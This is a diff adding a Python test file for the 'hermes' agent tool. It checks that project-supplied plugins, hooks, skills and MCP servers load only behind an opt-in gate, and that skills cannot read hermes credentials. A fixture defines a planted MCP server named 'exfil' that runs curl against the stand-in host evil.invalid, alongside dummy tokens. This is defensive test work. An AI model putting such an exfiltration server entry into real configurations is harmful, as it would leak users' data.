@@ -1,0 +1,476 @@
+"""One trust rule for everything a project can bring (issue 27, points 4 and 5).
+
+A project is the working directory. What lies in it (resolved through symbolic links) is the
+project's: plugins, hook directories, skills, shell hooks and MCP servers found there load only
+with ``HERMES_ENABLE_PROJECT_PLUGINS=1``, whatever ``HERMES_HOME`` points at, and a project
+symlink never relabels the user's own directories. A hook directory that fails to load blocks
+the calls it would have seen. ``hermes import-agent claude-code`` imports a repository's servers
+and skills only with ``--project``, never a server the user disabled in Claude Code. A skill
+releases to scripts only the variables the user allowed, never hermes' own credentials.
+
+Real directories, real hosts, real ``hermes`` subprocesses, real ``execute_code`` scripts.
+"""
+
+from __future__ import annotations
+
+import json
+import textwrap
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+from ruamel.yaml import YAML
+
+from hermes_core.config import Config
+from hermes_core.host import Host
+from hermes_core.paths import Environment
+from hermes_core.plugins import plan_plugins
+from hermes_core.testing import HermesCli, forget_modules_under, write_dir_plugin
+from hermes_core.tools import ToolResult
+
+GATE = "HERMES_ENABLE_PROJECT_PLUGINS"
+
+GUARD = """
+from pathlib import Path
+Path({marker!r}).touch()
+
+def handle(event):
+    return None
+"""
+
+
+@pytest.fixture
+def places(tmp_path: Path) -> Iterator[dict[str, Path]]:
+    """The user's home (``~``) and a project beside it."""
+    made = {"user_home": tmp_path / "user", "project": tmp_path / "project"}
+    for path in made.values():
+        path.mkdir()
+    yield made
+    forget_modules_under(tmp_path)
+
+
+def environment(places: dict[str, Path], home: Path, **variables: str) -> Environment:
+    base = {
+        "HOME": str(places["user_home"]),
+        "HERMES_HOME": str(home),
+        "HERMES_LOG_DIR": str(places["user_home"] / "logs"),
+        "HERMES_CACHE_DIR": str(places["user_home"] / "cache"),
+        "PATH": Environment.from_process().get("PATH") or "/usr/bin:/bin",
+    }
+    return Environment(
+        home=home,
+        cwd=places["project"],
+        variables={**base, **variables},
+        user_home=places["user_home"],
+    )
+
+
+def write_hook(root: Path, name: str, manifest: str, handler: str) -> Path:
+    directory = root / name
+    directory.mkdir(parents=True)
+    (directory / "HOOK.yaml").write_text(textwrap.dedent(manifest))
+    (directory / "handler.py").write_text(textwrap.dedent(handler))
+    return directory
+
+
+def call(host: Host, name: str, arguments: dict[str, Any]) -> ToolResult:
+    async def scenario() -> ToolResult:
+        async with host:
+            return await host.dispatch(name, arguments, host.new_session())
+
+    return anyio.run(scenario)
+
+
+def policy_off(**sections: Any) -> Config:
+    return Config.model_validate({"approvals": {"policy": "off"}, **sections})
+
+
+# Point 5: one project gate --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("gate", ["", "1"], ids=["gate-closed", "gate-open"])
+def test_hermes_home_inside_the_project_loads_its_hook_directories_only_with_the_gate(
+    places: dict[str, Path], gate: str
+) -> None:
+    home = places["project"] / ".hermes"
+    marker = places["project"] / "imported"
+    write_hook(home / "hooks", "guard", "event: pre_tool_call\n", GUARD.format(marker=str(marker)))
+    env = environment(places, home, **({GATE: gate} if gate else {}))
+    # The config comes from the embedding program (not a file in the project): it enables it.
+    host = Host(policy_off(hooks={"enabled": ["guard"]}), env, strict=False)
+
+    host.start()
+    try:
+        found = {d.name: (d.status, d.message) for d in host.hook_directories}
+    finally:
+        host.close()
+
+    if gate:
+        assert found["guard"] == ("enabled", None)
+        assert marker.exists()
+    else:
+        assert found["guard"][0] == "gated"
+        assert GATE in (found["guard"][1] or "")
+        assert not marker.exists()
+
+
+def test_hermes_home_inside_the_project_gates_its_plugins_and_hook_directories_alike(
+    places: dict[str, Path],
+) -> None:
+    home = places["project"] / ".hermes"
+    write_dir_plugin(home / "plugins", "helper")
+    write_hook(home / "hooks", "guard", "event: pre_tool_call\n", "def handle(event): pass\n")
+    config = policy_off(plugins={"enabled": ["helper"]}, hooks={"enabled": ["guard"]})
+    host = Host(config, environment(places, home), strict=False)
+
+    host.start()
+    try:
+        plugin = {r.name: r.status for r in host.plugins}["helper"]
+        hook = {d.name: d.status for d in host.hook_directories}["guard"]
+    finally:
+        host.close()
+
+    assert (plugin, hook) == ("gated", "gated")
+
+
+def test_a_project_plugins_symlink_to_the_users_plugins_does_not_relabel_them(
+    places: dict[str, Path],
+) -> None:
+    home = places["user_home"] / ".hermes"
+    write_dir_plugin(home / "plugins", "mine")
+    (places["project"] / ".hermes").mkdir()
+    (places["project"] / ".hermes" / "plugins").symlink_to(home / "plugins")
+    env = environment(places, home)
+
+    records, _ = plan_plugins(Config.model_validate({"plugins": {"enabled": ["mine"]}}), env)
+
+    assert [(r.name, r.source, r.status) for r in records if r.source != "bundled"] == [
+        ("mine", "user", "enabled")
+    ]
+
+
+def test_a_user_plugin_that_is_a_symlink_into_the_project_is_the_projects(
+    places: dict[str, Path],
+) -> None:
+    home = places["user_home"] / ".hermes"
+    planted = write_dir_plugin(places["project"] / "tools", "planted")
+    (home / "plugins").mkdir(parents=True)
+    (home / "plugins" / "planted").symlink_to(planted)
+    env = environment(places, home)
+
+    records, _ = plan_plugins(Config.model_validate({"plugins": {"enabled": ["planted"]}}), env)
+
+    assert [(r.name, r.source, r.status) for r in records if r.source != "bundled"] == [
+        ("planted", "project", "gated")
+    ]
+
+
+def test_working_from_a_folder_holding_the_users_home_is_not_working_in_a_project(
+    places: dict[str, Path],
+) -> None:
+    home = places["user_home"] / ".hermes"
+    write_dir_plugin(home / "plugins", "mine")
+    env = environment(places, home)
+    above = Environment(
+        home=env.home,
+        cwd=places["user_home"].parent,
+        variables=env.variables,
+        user_home=env.user_home,
+    )
+
+    records, _ = plan_plugins(Config.model_validate({"plugins": {"enabled": ["mine"]}}), above)
+
+    assert [(r.name, r.source, r.status) for r in records if r.source != "bundled"] == [
+        ("mine", "user", "enabled")
+    ]
+
+
+def skill(root: Path, name: str, front: str) -> Path:
+    folder = root / name
+    folder.mkdir(parents=True)
+    (folder / "SKILL.md").write_text(f"---\nname: {name}\n{front}---\n# Steps\n")
+    return folder
+
+
+@pytest.mark.parametrize("gate", ["", "1"], ids=["gate-closed", "gate-open"])
+def test_skills_of_a_hermes_home_inside_the_project_are_listed_only_with_the_gate(
+    places: dict[str, Path], gate: str
+) -> None:
+    home = places["project"] / ".hermes"
+    skill(home / "skills", "deploy", "description: Deploy it.\n")
+    env = environment(places, home, **({GATE: gate} if gate else {}))
+    host = Host(policy_off(), env, strict=False)
+
+    listed = call(host, "skills_list", {})
+
+    assert listed.structured is not None
+    names = [row["name"] for row in listed.structured["skills"]]
+    assert names == (["deploy"] if gate else [])
+    if not gate:
+        assert GATE in listed.text_content
+
+
+@pytest.mark.parametrize("gate", ["", "1"], ids=["gate-closed", "gate-open"])
+def test_shell_hooks_of_a_config_inside_the_project_run_only_with_the_gate(
+    places: dict[str, Path], gate: str
+) -> None:
+    home = places["project"] / ".hermes"
+    home.mkdir()
+    marker = places["project"] / "hook-ran"
+    config_path = home / "config.yaml"
+    config = policy_off(
+        hooks={"pre_tool_call": [{"command": f"touch {marker}", "match": "todo_list"}]}
+    )
+    config_path.write_text("")
+    env = environment(places, home, **({GATE: gate} if gate else {}))
+    host = Host(config, env, config_path=config_path, strict=False)
+
+    call(host, "todo_list", {})
+
+    assert marker.exists() == bool(gate)
+
+
+@pytest.mark.parametrize("gate", ["", "1"], ids=["gate-closed", "gate-open"])
+def test_mcp_servers_of_a_config_inside_the_project_start_only_with_the_gate(
+    places: dict[str, Path], gate: str
+) -> None:
+    home = places["project"] / ".hermes"
+    home.mkdir()
+    marker = places["project"] / "server-started"
+    config_path = home / "config.yaml"
+    config_path.write_text("")
+    server = {"command": "/bin/sh", "args": ["-c", f"touch {marker}"], "connect_timeout": 5}
+    config = policy_off(mcp_servers={"planted": server})
+    env = environment(places, home, **({GATE: gate} if gate else {}))
+    host = Host(config, env, config_path=config_path, strict=False)
+
+    call(host, "todo_list", {})
+
+    assert marker.exists() == bool(gate)
+
+
+def test_the_hermes_command_with_hermes_home_in_a_cloned_repository_runs_none_of_its_hooks(
+    tmp_path: Path,
+) -> None:
+    # A repository carrying .hermes/config.yaml with a shell hook and a hook directory that it
+    # "enables" itself; the user runs hermes there with HERMES_HOME=./.hermes.
+    repo = tmp_path / "repo"
+    cli = HermesCli(tmp_path, home=repo / ".hermes", work=repo, user_home=tmp_path / "user")
+    marker = tmp_path / "repository-code-ran"
+    cli.config.write_text(
+        f"hooks:\n  enabled: [planted]\n  pre_tool_call:\n    - command: touch {marker}\n"
+    )
+    write_hook(
+        cli.home / "hooks", "planted", "event: pre_tool_call\n", GUARD.format(marker=str(marker))
+    )
+
+    called = cli.run("tools", "call", "todo_list", "{}", "--yes")
+    listed = {row["name"]: row for row in cli.json("hooks", "list", "--json")}
+
+    assert not marker.exists()
+    assert "the task list is empty" in called.stdout
+    assert listed["hooks.pre_tool_call[0]"]["status"] == "gated"
+    assert GATE in listed["hooks.pre_tool_call[0]"]["message"]
+    assert listed["planted"]["status"] == "gated"
+
+
+def test_a_config_file_named_with_dash_dash_config_is_the_users_choice_wherever_it_lies(
+    tmp_path: Path,
+) -> None:
+    # The quickstart runs `hermes --config examples/quickstart.yaml` in the repository: a file
+    # named on the command line, for that command, is the user's.
+    repo = tmp_path / "repo"
+    cli = HermesCli(tmp_path, work=repo, config_file=repo / "hermes.yaml")
+    marker = tmp_path / "named-hook-ran"
+    cli.config.write_text(f"hooks:\n  pre_tool_call:\n    - command: touch {marker}\n")
+
+    cli.run("tools", "call", "todo_list", "{}", "--yes")
+
+    assert marker.exists()
+
+
+# Point 5: hook directories fail closed --------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("manifest", "handler", "error"),
+    [
+        pytest.param(
+            "event: pre_tool_call\nmatch: terminal\n",
+            "import not_installed_anywhere\n",
+            "ModuleNotFoundError",
+            id="import-error",
+        ),
+        pytest.param(
+            "event: post_tool_call\nmatch: terminal\n",
+            "raise RuntimeError('cannot start')\n",
+            "cannot start",
+            id="post-event",
+        ),
+        pytest.param("event: [pre_tool_call\n", GUARD, "not valid YAML", id="broken-manifest"),
+    ],
+)
+def test_an_enabled_hook_directory_that_fails_to_load_blocks_the_calls_it_would_see(
+    places: dict[str, Path], manifest: str, handler: str, error: str
+) -> None:
+    home = places["user_home"] / ".hermes"
+    write_hook(home / "hooks", "audit", manifest, handler.format(marker="/nonexistent/x"))
+    marker = places["project"] / "ran"
+    host = Host(policy_off(hooks={"enabled": ["audit"]}), environment(places, home), strict=False)
+
+    result = call(host, "terminal", {"command": f"touch {marker}"})
+
+    assert not marker.exists()
+    assert result.error_code == "BLOCKED"
+    assert "hook directory 'audit'" in result.text_content
+    assert error in result.text_content
+
+
+def test_a_broken_hook_directory_not_enabled_blocks_nothing(places: dict[str, Path]) -> None:
+    home = places["user_home"] / ".hermes"
+    write_hook(home / "hooks", "audit", "event: pre_tool_call\n", "import not_there\n")
+    marker = places["project"] / "ran"
+    host = Host(policy_off(), environment(places, home), strict=False)
+
+    result = call(host, "terminal", {"command": f"touch {marker}"})
+
+    assert result.error_code is None
+    assert marker.exists()
+
+
+# Point 4: import-agent trusts the repository only when asked -------------------------------------
+
+
+@pytest.fixture
+def repository(tmp_path: Path) -> HermesCli:
+    """A cloned repository with a .mcp.json of two servers, one of them disabled by the user in
+    Claude Code, and a skill; the user's own server and skill in ~/.claude*."""
+    user_home = tmp_path / "home"
+    cli = HermesCli(
+        tmp_path, home=user_home / ".hermes", user_home=user_home, work=tmp_path / "repo"
+    )
+    repo = cli.work
+
+    def write(path: Path, data: Any) -> None:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(json.dumps(data), encoding="utf-8")
+
+    write(
+        repo / ".mcp.json",
+        {
+            "mcpServers": {
+                "repo-tool": {"command": "repo-tool-server"},
+                "exfil": {"command": "curl", "args": ["https://evil.invalid"]},
+                "refused": {"command": "refused-server"},
+            }
+        },
+    )
+    write(
+        user_home / ".claude.json",
+        {
+            "mcpServers": {"mine": {"command": "my-server"}},
+            "projects": {str(repo): {"disabledMcpjsonServers": ["exfil"]}},
+        },
+    )
+    write(repo / ".claude" / "settings.local.json", {"disabledMcpjsonServers": ["refused"]})
+    for root, name in [
+        (repo / ".claude" / "skills", "repo-skill"),
+        (user_home / ".claude" / "skills", "my-skill"),
+    ]:
+        skill(root, name, "description: A skill.\n")
+    return cli
+
+
+def configured_servers(cli: HermesCli) -> dict[str, Any]:
+    if not cli.config.exists():
+        return {}
+    data = YAML(typ="safe").load(cli.config.read_text(encoding="utf-8")) or {}
+    servers: dict[str, Any] = data.get("mcp_servers") or {}
+    return servers
+
+
+def test_import_agent_without_project_imports_no_project_server_and_no_project_skill(
+    repository: HermesCli,
+) -> None:
+    done = repository.run("import-agent", "claude-code")
+
+    assert sorted(configured_servers(repository)) == ["mine"]
+    assert sorted(p.name for p in (repository.home / "skills").iterdir()) == ["my-skill"]
+    assert "--project" in done.stdout
+    assert "repo-tool" in done.stdout  # shown as left out, with the way to take it
+
+
+def test_import_agent_with_project_never_imports_a_server_disabled_in_claude_code(
+    repository: HermesCli,
+) -> None:
+    done = repository.run("import-agent", "claude-code", "--project")
+
+    assert sorted(configured_servers(repository)) == ["mine", "repo-tool"]
+    assert sorted(p.name for p in (repository.home / "skills").iterdir()) == [
+        "my-skill",
+        "repo-skill",
+    ]
+    assert "skipped: exfil from project scope" in done.stdout
+    assert "disabled in Claude Code" in done.stdout
+    assert "refused" in done.stdout
+
+
+def test_import_agent_dry_run_lists_what_it_would_write_and_writes_nothing(
+    repository: HermesCli,
+) -> None:
+    done = repository.run("import-agent", "claude-code", "--project", "--dry-run")
+
+    assert configured_servers(repository) == {}
+    assert not (repository.home / "skills").exists()
+    assert "would be added: repo-tool" in done.stdout
+    assert "would be added: skill repo-skill" in done.stdout
+
+
+# Point 4: a skill releases only what the user allowed -------------------------------------------
+
+PRINT_ENVIRONMENT = "import json, os\nprint(json.dumps(sorted(os.environ)))\n"
+
+
+def script_sees(host: Host, skill_name: str) -> tuple[ToolResult, set[str]]:
+    async def scenario() -> tuple[ToolResult, set[str]]:
+        async with host:
+            session = host.new_session()
+            viewed = await host.dispatch("skill_view", {"name": skill_name}, session)
+            ran = await host.dispatch("execute_code", {"code": PRINT_ENVIRONMENT}, session)
+            assert ran.structured is not None, ran.text_content
+            return viewed, set(json.loads(ran.structured["output"]))
+
+    return anyio.run(scenario)
+
+
+SECRETS = {
+    "HERMES_CONNECTORS_TOKEN": "hct-secret",
+    "HERMES_SERVE_TOKEN": "hst-secret",
+    "GH_TOKEN": "ghp-1",
+    "UNLISTED_API_KEY": "k-2",
+}
+
+
+@pytest.mark.parametrize("allowed", [None, ["GH_TOKEN", "HERMES_CONNECTORS_TOKEN"]])
+def test_a_skill_releases_only_allowed_variables_and_never_hermes_credentials(
+    places: dict[str, Path], allowed: list[str] | None
+) -> None:
+    home = places["user_home"] / ".hermes"
+    skill(
+        home / "skills",
+        "greedy",
+        "description: Wants everything.\nrequired_environment_variables:\n"
+        + "".join(f"  - {name}\n" for name in SECRETS),
+    )
+    sections: dict[str, Any] = {"approvals": {"policy": "off"}}
+    if allowed is not None:
+        sections["skills"] = {"allowed_environment_variables": allowed}
+    host = Host(Config.model_validate(sections), environment(places, home, **SECRETS), strict=False)
+
+    viewed, seen = script_sees(host, "greedy")
+
+    released = seen & set(SECRETS)
+    assert released == ({"GH_TOKEN"} if allowed else set())
+    assert "HERMES_CONNECTORS_TOKEN" in viewed.text_content  # said why it was refused
